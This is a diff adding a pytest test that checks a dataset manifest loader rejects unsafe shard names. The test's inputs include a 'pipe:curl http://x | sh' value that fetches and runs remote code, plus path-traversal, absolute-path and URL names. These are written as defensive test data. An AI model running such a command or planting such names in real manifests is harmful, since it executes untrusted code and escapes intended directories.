@@ -62,3 +62,19 @@ def test_device_decode_falls_back_to_the_cpu_path_bit_for_bit(shards):
         a, _ = DeviceNormalizer(cpu, True)(x, y)
         b, _ = DeviceDecoder(cpu, True, 32)(raw, y2)
         assert torch.equal(a, b) and b.is_contiguous(memory_format=torch.channels_last)
+
+
+@pytest.mark.parametrize("name", ["pipe:curl http://x | sh", "../elsewhere.tar", "sub/train-000000.tar",
+                                  "/abs/train-000000.tar", "http://host/train-000000.tar"])
+def test_manifest_refuses_shard_names_data_prep_would_not_write(shards, tmp_path, name):
+    import json
+    import shutil
+
+    from finetune import UsageError
+    copy = tmp_path / "copy"
+    shutil.copytree(shards, copy)
+    manifest = json.loads((copy / "manifest.json").read_text())
+    manifest["splits"]["train"]["shards"][0]["name"] = name
+    (copy / "manifest.json").write_text(json.dumps(manifest))
+    with pytest.raises(UsageError, match="not a plain NAME.tar"):
+        load_manifest(copy)
